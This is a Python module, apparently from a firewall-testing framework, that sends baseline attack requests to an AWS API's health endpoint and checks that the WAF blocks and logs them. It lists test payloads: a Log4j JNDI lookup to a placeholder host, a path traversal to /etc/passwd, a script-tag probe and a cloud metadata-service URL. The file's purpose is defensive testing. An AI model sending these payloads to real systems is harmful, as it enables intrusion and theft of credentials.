"""Attacks of the plainest kind, as AWS documents the rules that are for them. Each is harmless where it gets through.

They ask for the health without a key: what a firewall lets pass, the gateway turns away, and no function sees it.
https://docs.aws.amazon.com/waf/latest/developerguide/aws-managed-rule-groups-baseline.html
"""

from __future__ import annotations

import uuid
from collections.abc import Iterator, Mapping, Sequence
from dataclasses import dataclass, field, replace
from datetime import datetime
from urllib.parse import quote

from probes.remote.http import Connection
from stormproof.aws.observe.wafv2 import stage_arn
from stormproof.core.bench import Bench
from stormproof.core.judges.firewall.refusals import Tried
from stormproof.core.observations import PROBE_HEADER
from stormproof.core.stimuli import Stimulus
from stormproof.core.workload.model import Health
from stormproof.stimuli.firewall.web_acl_states import judged, read_records, read_samples
from stormproof.stimuli.shared.arrivals import must_have_arrived
from stormproof.stimuli.shared.entry_points import answered
from stormproof.stimuli.shared.log_traces import LONGEST_S
from stormproof.stimuli.shared.propagation import settled
from stormproof.stimuli.shared.workload import health

NOWHERE = "192.0.2.1"


@dataclass(frozen=True)
class Attack:
    """A request: what is tried, the query that is sent, and headers."""

    what: str
    query: str = ""
    headers: Mapping[str, str] = field(default_factory=dict)

    def path(self, health: Health) -> str:
        """Return the path of the health with the query."""
        return f"{health.path}?q={quote(self.query, safe='')}" if self.query else health.path


LOG4J = f"${{jndi:ldap://{NOWHERE}/a}}"
IN_HEADER = Attack("Log4j in a header", headers={"x-client": LOG4J})
ATTACKS = (
    Attack("Log4j in the query", LOG4J),
    IN_HEADER,
    Attack("a file of the system in the query", "../../../../etc/passwd"),
    Attack("a script in the query", "<script>alert(1)</script>"),
    Attack("the metadata service in the query", "http://169.254.169.254/latest/meta-data/"),
    Attack("a scanner by its name", headers={"User-Agent": "Nessus"}),
)
HARMLESS = (
    Attack("a plain request"),
    Attack("a question in the query", "how do orders > 100 & <new> customers get from ../drafts to 5%?"),
)


@dataclass(frozen=True)
class Attacked:
    """What attacks came to; of those that carried keys, the log's lines, the samples and the keys' texts.

    `sent` are, by stage, the marks of its attacks, the last one after all else; `recorded` those that the log tells of.
    """

    attacks: tuple[Tried, ...]
    harmless: tuple[Tried, ...]
    lines: tuple[str, ...] = ()
    samples: tuple[str, ...] = ()
    secrets: tuple[str, ...] = ()
    sent: Mapping[str, tuple[str, ...]] = field(default_factory=dict)
    recorded: frozenset[str] = frozenset()

    def must_have_arrived(self) -> None:
        """Raise CouldNotLook ``logs.not_arrived`` where the log tells of a stage's attacks, and not yet of its last."""
        for stage, marks in self.sent.items():
            must_have_arrived(marks, self.recorded, f"the firewall about stage {stage}")

    def __repr__(self) -> str:
        """Leave the keys out."""
        return f"Attacked({len(self.attacks)} attacks, {len(self.lines)} lines, {len(self.samples)} samples)"


def attack_every_stage(bench: Bench) -> Attacked:
    """Attack each stage without a key, and the one that serves users with a key too."""
    since, mark, key = bench.clock.now(), _mark(), bench.keys.issue("attacks")
    stages = bench.context.system.api.stages
    seen = _attacked(bench, since, mark, stages)
    carrying = f"{mark}/key"
    with Connection(bench.endpoint(key=key)) as connection:
        headers = {**IN_HEADER.headers, PROBE_HEADER: carrying}
        answered(bench.send(connection.send, "GET", health(bench).path, headers, note="an attack that carries a key"))
    records = read_records(bench, carrying, since, 1)
    samples = read_samples(bench, carrying, since)
    return replace(seen, lines=tuple(map(str, records.values())), samples=tuple(samples), secrets=(key,))


def attack_once(bench: Bench) -> Attacked:
    """Attack the stage that serves users, without a key."""
    return _attacked(bench, bench.clock.now(), _mark(), (bench.context.system.api.stage,))


def _attacked(bench: Bench, since: datetime, mark: str, stages: Sequence[str]) -> Attacked:
    tried = {f"{mark}/{number}": each for number, each in enumerate(_tried(bench, mark, stages))}
    last = {stage: f"{mark}/last/{stage}" for stage in stages}
    for stage, name in last.items():
        _attack(bench, stage, IN_HEADER, name)
    hostile = {name: each for name, each in tried.items() if each.what in {attack.what for attack in ATTACKS}}
    records = read_records(bench, mark, since, len(hostile) + len(last), last.values())
    harmless = {name: each for name, each in tried.items() if name not in hostile}
    at = {stage: stage_arn(bench.context, stage) for stage in stages}
    return Attacked(
        judged(list(hostile.values()), list(hostile), records),
        judged(list(harmless.values()), list(harmless), records),
        sent={each: (*(name for name, one in hostile.items() if one.stage == at[each]), last[each]) for each in stages},
        recorded=frozenset(records),
    )


def _tried(bench: Bench, mark: str, stages: Sequence[str]) -> Iterator[Tried]:
    number = 0
    for stage in stages:
        with Connection(bench.endpoint(stage)) as connection:
            for attack in (*ATTACKS, *HARMLESS):
                yield _attacking(bench, connection, stage, attack, f"{mark}/{number}")
                number += 1


def _attack(bench: Bench, stage: str, attack: Attack, mark: str) -> Tried:
    with Connection(bench.endpoint(stage)) as connection:
        return _attacking(bench, connection, stage, attack, mark)


def _attacking(bench: Bench, connection: Connection, stage: str, attack: Attack, mark: str) -> Tried:
    headers = {**attack.headers, PROBE_HEADER: mark}
    seen = bench.send(connection.send, "GET", attack.path(health(bench)), headers, note=attack.what)
    return Tried(attack.what, stage_arn(bench.context, stage), answered(seen))


def _mark() -> str:
    return f"attack-{uuid.uuid4().hex}"


ATTACKED = Stimulus("attacks on every stage", settled(attack_every_stage), longest_s=2 * LONGEST_S)
ATTACKED_ONCE = Stimulus("attacks without a key", settled(attack_once), longest_s=LONGEST_S)
